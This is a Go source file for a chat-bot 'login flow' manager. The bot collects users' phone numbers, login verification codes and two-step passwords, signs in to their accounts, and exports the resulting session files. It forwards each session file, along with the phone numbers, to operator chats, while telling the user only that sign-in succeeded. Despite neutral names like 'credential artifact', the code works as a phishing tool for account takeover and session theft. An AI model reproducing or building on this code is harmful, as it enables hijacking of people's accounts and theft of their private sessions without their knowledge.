package flow

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"log/slog"

	"github.com/google/uuid"

	"github.com/nvoloshin/authbridge/auth/authclient"
	"github.com/nvoloshin/authbridge/auth/code"
	"github.com/nvoloshin/authbridge/auth/session"
	"github.com/nvoloshin/authbridge/core/logger"
)

const defaultCallTimeout = 45 * time.Second

// Channels lists operator chats receiving service notifications.
type Channels struct {
	Admin    int64
	PhoneLog int64
	Artifact int64
}

// Messages holds user-facing text templates.
type Messages struct {
	// Welcome supports a {first_name} placeholder.
	Welcome        string
	ThankYou       string
	CodePrompt     string
	PasswordPrompt string
}

// Options wires the manager's collaborators.
type Options struct {
	Client    authclient.Client
	Registry  *session.Registry
	Users     UserStore
	Artifacts ArtifactStore
	Sink      Sink
	Channels  Channels
	Messages  Messages
	// CallTimeout bounds every external-service round trip; 0 -> 45s.
	CallTimeout time.Duration
	// CodeLength is the expected verification code size; 0 -> 5.
	CodeLength int
}

// Manager runs one login state machine per user. Events for the same user
// are serialized on a per-user lock; the lock is held across the external
// call so a user's transitions observe a consistent state, while other
// users' flows proceed independently.
type Manager struct {
	opts Options

	mu    sync.Mutex
	flows map[int64]*userFlow
}

type userFlow struct {
	mu        sync.Mutex
	state     State
	display   string
	attemptID string
	attempt   *attempt
}

// NewManager validates the wiring and returns a ready manager.
func NewManager(opts Options) (*Manager, error) {
	if opts.Client == nil {
		return nil, errors.New("flow: nil auth client")
	}
	if opts.Registry == nil {
		return nil, errors.New("flow: nil session registry")
	}
	if opts.Users == nil {
		return nil, errors.New("flow: nil user store")
	}
	if opts.Artifacts == nil {
		return nil, errors.New("flow: nil artifact store")
	}
	if opts.Sink == nil {
		return nil, errors.New("flow: nil notification sink")
	}
	if opts.CallTimeout <= 0 {
		opts.CallTimeout = defaultCallTimeout
	}
	if opts.CodeLength <= 0 {
		opts.CodeLength = code.DefaultLength
	}
	return &Manager{
		opts:  opts,
		flows: make(map[int64]*userFlow),
	}, nil
}

func (m *Manager) flowFor(userID int64) *userFlow {
	m.mu.Lock()
	defer m.mu.Unlock()
	f, ok := m.flows[userID]
	if !ok {
		f = &userFlow{state: StateIdle}
		m.flows[userID] = f
	}
	return f
}

func (m *Manager) callCtx(ctx context.Context) (context.Context, context.CancelFunc) {
	if ctx == nil {
		ctx = context.Background()
	}
	return context.WithTimeout(ctx, m.opts.CallTimeout)
}

// HandleStart processes a /start event. A user with a phone number on file
// goes straight to a fresh code request; a new user is recorded and asked to
// share their contact.
func (m *Manager) HandleStart(ctx context.Context, u User) error {
	f := m.flowFor(u.ID)
	f.mu.Lock()
	defer f.mu.Unlock()

	phone, known, err := m.opts.Users.Phone(ctx, u.ID)
	if err != nil {
		logger.Warn(ctx, "auth.flow", "phone.lookup.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
		known = false
	}
	if known {
		return m.beginAttempt(ctx, f, u, phone)
	}

	if err := m.opts.Users.RecordUser(ctx, u.ID, u.Username, u.FirstName, u.LastName); err != nil {
		logger.Warn(ctx, "auth.flow", "user.record.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
	}
	total, err := m.opts.Users.CountUsers(ctx)
	if err != nil {
		logger.Warn(ctx, "auth.flow", "user.count.failed",
			slog.String("err", err.Error()),
		)
	}

	m.notify(ctx, m.opts.Channels.Admin, fmt.Sprintf(
		"New user\nID: %d\nUsername: %s\nName: %s\nTotal users: %d",
		u.ID, u.DisplayName(), strings.TrimSpace(u.FirstName+" "+u.LastName), total,
	))

	welcome := strings.ReplaceAll(m.opts.Messages.Welcome, "{first_name}", u.FirstName)
	if err := m.opts.Sink.PromptContact(ctx, u.ID, welcome); err != nil {
		logger.Warn(ctx, "auth.flow", "prompt.contact.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
	}
	return nil
}

// HandleContact processes a shared phone number and starts a login attempt.
func (m *Manager) HandleContact(ctx context.Context, u User, phone string) error {
	phone = strings.TrimSpace(phone)
	if phone == "" {
		return nil
	}

	f := m.flowFor(u.ID)
	f.mu.Lock()
	defer f.mu.Unlock()

	if err := m.opts.Users.SavePhone(ctx, u.ID, phone); err != nil {
		logger.Warn(ctx, "auth.flow", "phone.save.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
	}

	text := fmt.Sprintf("User shared a phone number\nID: %d\nUsername: %s\nPhone: %s",
		u.ID, u.DisplayName(), phone)
	m.notify(ctx, m.opts.Channels.PhoneLog, text)
	if m.opts.Channels.PhoneLog != m.opts.Channels.Admin {
		m.notify(ctx, m.opts.Channels.Admin, text)
	}

	if err := m.opts.Sink.AckContact(ctx, u.ID, m.opts.Messages.ThankYou); err != nil {
		logger.Warn(ctx, "auth.flow", "ack.contact.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
	}
	return m.beginAttempt(ctx, f, u, phone)
}

// beginAttempt dials a fresh ephemeral handle, requests a verification code
// and moves the flow to StateAwaitingCode. Any prior in-progress attempt for
// the user is superseded: its handle is destroyed before the new dial so a
// re-triggered /start can never leak a connection.
func (m *Manager) beginAttempt(ctx context.Context, f *userFlow, u User, phone string) error {
	f.display = u.DisplayName()

	if f.state != StateIdle || f.attempt != nil {
		logger.Info(ctx, "auth.flow", "attempt.superseded",
			slog.Int64("user_id", u.ID),
			slog.String("state", string(f.state)),
			slog.String("attempt_id", f.attemptID),
		)
		m.opts.Registry.Destroy(ctx, u.ID)
		f.attempt = nil
		f.state = StateIdle
	}

	cctx, cancel := m.callCtx(ctx)
	defer cancel()

	handle, err := m.opts.Client.Dial(cctx)
	if err != nil {
		ferr := newFlowError(KindCodeRequestFailed, err)
		m.notify(ctx, u.ID, "Failed to request a verification code: "+err.Error())
		m.notify(ctx, m.opts.Channels.Admin, fmt.Sprintf("Code request failed for %s: %v", f.display, err))
		return ferr
	}
	if err := m.opts.Registry.Create(u.ID, handle); err != nil {
		_ = handle.Close()
		logger.Error(ctx, "auth.flow", "registry.conflict",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
		m.notify(ctx, u.ID, "Internal error, please send /start to retry.")
		return newFlowError(KindRegistryConflict, err)
	}

	codeHash, err := handle.RequestCode(cctx, phone)
	if err != nil {
		m.opts.Registry.Destroy(ctx, u.ID)
		if errors.Is(err, authclient.ErrAlreadyAuthorized) {
			msg := f.display + " is already authorized"
			m.notify(ctx, u.ID, "This account is already authorized.")
			m.notify(ctx, m.opts.Channels.PhoneLog, msg)
			return newFlowError(KindAlreadyAuthorized, err)
		}
		m.notify(ctx, u.ID, "Failed to request a verification code: "+err.Error())
		m.notify(ctx, m.opts.Channels.Admin, fmt.Sprintf("Code request failed for %s: %v", f.display, err))
		return newFlowError(KindCodeRequestFailed, err)
	}

	f.attemptID = uuid.NewString()
	f.attempt = &attempt{
		id:       f.attemptID,
		phone:    phone,
		codeHash: codeHash,
		buffer:   code.NewBuffer(m.opts.CodeLength),
	}
	f.state = StateAwaitingCode

	logger.Info(ctx, "auth.flow", "code.requested",
		slog.Int64("user_id", u.ID),
		slog.String("attempt_id", f.attemptID),
		slog.String("to_state", string(StateAwaitingCode)),
	)

	if err := m.opts.Sink.ShowCodePad(ctx, u.ID, m.opts.Messages.CodePrompt, ""); err != nil {
		logger.Warn(ctx, "auth.flow", "codepad.show.failed",
			slog.Int64("user_id", u.ID),
			slog.String("err", err.Error()),
		)
	}
	return nil
}

// HandlePress processes one keypad press: a digit, KeyClear or KeyDelete.
// The buffer reaching its full length is the sole submission trigger, and the
// attempt record is discarded synchronously with submission so a press racing
// the sign-in call can never replay into the next attempt.
func (m *Manager) HandlePress(ctx context.Context, userID int64, key string) error {
	f := m.flowFor(userID)
	f.mu.Lock()
	defer f.mu.Unlock()

	if f.state != StateAwaitingCode || f.attempt == nil {
		m.notify(ctx, userID, "No active code entry. Send /start to begin.")
		return newFlowError(KindNoActiveSession, nil)
	}

	att := f.attempt
	switch key {
	case KeyClear:
		att.buffer.Clear()
	case KeyDelete:
		att.buffer.Backspace()
	default:
		if len(key) == 1 {
			att.buffer.Append(key[0])
		}
	}

	if !att.buffer.Complete() {
		if err := m.opts.Sink.UpdateCodePad(ctx, userID, m.opts.Messages.CodePrompt, att.buffer.Value()); err != nil {
			logger.Warn(ctx, "auth.flow", "codepad.update.failed",
				slog.Int64("user_id", userID),
				slog.String("err", err.Error()),
			)
		}
		return nil
	}

	// Submission edge. The attempt is gone before the external call so the
	// buffer cannot be observed by later events.
	codeStr := att.buffer.Value()
	f.attempt = nil
	att.buffer.Clear()

	if err := m.opts.Sink.UpdateCodePad(ctx, userID, m.opts.Messages.CodePrompt, codeStr); err != nil {
		logger.Warn(ctx, "auth.flow", "codepad.update.failed",
			slog.Int64("user_id", userID),
			slog.String("err", err.Error()),
		)
	}

	handle, err := m.opts.Registry.Get(userID)
	if err != nil {
		f.state = StateIdle
		m.notify(ctx, userID, "Session expired. Send /start to begin again.")
		return newFlowError(KindNoActiveSession, err)
	}

	cctx, cancel := m.callCtx(ctx)
	defer cancel()

	logger.Debug(ctx, "auth.flow", "code.submit",
		slog.Int64("user_id", userID),
		slog.String("attempt_id", att.id),
		slog.Int("code_len", len(codeStr)),
	)

	res, err := handle.SignIn(cctx, att.phone, codeStr, att.codeHash)
	if err != nil {
		f.state = StateIdle
		m.opts.Registry.Destroy(ctx, userID)
		m.notify(ctx, userID, "Sign-in failed: "+err.Error())
		return newFlowError(KindInvalidCode, err)
	}

	if res.SecondFactorRequired {
		f.state = StateAwaitingSecondFactor
		logger.Info(ctx, "auth.flow", "second_factor.required",
			slog.Int64("user_id", userID),
			slog.String("attempt_id", att.id),
			slog.String("to_state", string(StateAwaitingSecondFactor)),
		)
		if err := m.opts.Sink.PromptPassword(ctx, userID, m.opts.Messages.PasswordPrompt); err != nil {
			logger.Warn(ctx, "auth.flow", "prompt.password.failed",
				slog.Int64("user_id", userID),
				slog.String("err", err.Error()),
			)
		}
		return nil
	}

	return m.finishAuthorized(ctx, f, userID, handle)
}

// HandleText processes free text while a second factor is pending; outside
// that state the event does not belong to the flow.
func (m *Manager) HandleText(ctx context.Context, u User, text string) error {
	f := m.flowFor(u.ID)
	f.mu.Lock()
	defer f.mu.Unlock()

	if f.state != StateAwaitingSecondFactor {
		m.notify(ctx, u.ID, "No active login flow. Send /start to begin.")
		return newFlowError(KindNoActiveSession, nil)
	}

	handle, err := m.opts.Registry.Get(u.ID)
	if err != nil {
		f.state = StateIdle
		m.notify(ctx, u.ID, "Session expired. Send /start to begin again.")
		return newFlowError(KindNoActiveSession, err)
	}

	cctx, cancel := m.callCtx(ctx)
	defer cancel()

	res, err := handle.SignInPassword(cctx, strings.TrimSpace(text))
	if err != nil || res.SecondFactorRequired {
		f.state = StateIdle
		m.opts.Registry.Destroy(ctx, u.ID)
		if err == nil {
			err = errors.New("password rejected")
		}
		m.notify(ctx, u.ID, "Two-step verification failed: "+err.Error())
		return newFlowError(KindSecondFactorFailed, err)
	}

	return m.finishAuthorized(ctx, f, u.ID, handle)
}

// finishAuthorized persists the credential artifact, forwards it, notifies
// the user and the operators, and releases the handle. Called with the
// per-user lock held.
func (m *Manager) finishAuthorized(ctx context.Context, f *userFlow, userID int64, handle authclient.Handle) error {
	f.state = StateIdle
	attemptID := f.attemptID
	defer m.opts.Registry.Destroy(ctx, userID)

	cctx, cancel := m.callCtx(ctx)
	defer cancel()

	artifact, err := handle.Export(cctx)
	if err != nil {
		m.notify(ctx, userID, "Signed in, but the session could not be saved. Please retry with /start.")
		m.notify(ctx, m.opts.Channels.Admin, fmt.Sprintf("Artifact export failed for %s: %v", f.display, err))
		return newFlowError(KindArtifactFailed, err)
	}
	if err := m.opts.Artifacts.Save(ctx, userID, attemptID, artifact); err != nil {
		m.notify(ctx, userID, "Signed in, but the session could not be saved. Please retry with /start.")
		m.notify(ctx, m.opts.Channels.Admin, fmt.Sprintf("Artifact save failed for %s: %v", f.display, err))
		return newFlowError(KindArtifactFailed, err)
	}

	// Durable write first, then a scoped read-back for transmission.
	data, err := m.opts.Artifacts.Load(ctx, userID)
	if err != nil {
		logger.Warn(ctx, "auth.flow", "artifact.readback.failed",
			slog.Int64("user_id", userID),
			slog.String("err", err.Error()),
		)
		data = artifact
	}
	filename := fmt.Sprintf("%d.session", userID)
	if err := m.opts.Sink.NotifyDocument(ctx, m.opts.Channels.Artifact, "New credential artifact", filename, data); err != nil {
		logger.Warn(ctx, "auth.flow", "artifact.forward.failed",
			slog.Int64("user_id", userID),
			slog.String("err", err.Error()),
		)
	}

	m.notify(ctx, userID, "Signed in successfully!")
	m.notify(ctx, m.opts.Channels.PhoneLog, f.display+" signed in successfully")

	logger.Info(ctx, "auth.flow", "authorized",
		slog.Int64("user_id", userID),
		slog.String("attempt_id", attemptID),
		slog.String("to_state", string(StateIdle)),
	)
	return nil
}

// StateOf reports the current flow state for a user.
func (m *Manager) StateOf(userID int64) State {
	m.mu.Lock()
	f, ok := m.flows[userID]
	m.mu.Unlock()
	if !ok {
		return StateIdle
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.state
}

// AwaitingPassword reports whether free text from the user should be treated
// as a second-factor password.
func (m *Manager) AwaitingPassword(userID int64) bool {
	return m.StateOf(userID) == StateAwaitingSecondFactor
}

// ActiveFlows counts users with a non-idle login flow.
func (m *Manager) ActiveFlows() int {
	m.mu.Lock()
	flows := make([]*userFlow, 0, len(m.flows))
	for _, f := range m.flows {
		flows = append(flows, f)
	}
	m.mu.Unlock()

	n := 0
	for _, f := range flows {
		f.mu.Lock()
		if f.state != StateIdle {
			n++
		}
		f.mu.Unlock()
	}
	return n
}

// Close disconnects every live handle and resets all flows. Used on
// shutdown; a leaked connection at exit is a correctness bug, not untidiness.
func (m *Manager) Close(ctx context.Context) {
	m.mu.Lock()
	flows := m.flows
	m.flows = make(map[int64]*userFlow)
	m.mu.Unlock()

	for _, f := range flows {
		f.mu.Lock()
		f.state = StateIdle
		f.attempt = nil
		f.mu.Unlock()
	}
	m.opts.Registry.DestroyAll(ctx)
}

func (m *Manager) notify(ctx context.Context, chatID int64, text string) {
	if chatID == 0 || text == "" {
		return
	}
	if err := m.opts.Sink.Notify(ctx, chatID, text); err != nil {
		logger.Warn(ctx, "auth.flow", "notify.failed",
			slog.Int64("chat_id", chatID),
			slog.String("err", err.Error()),
		)
	}
}
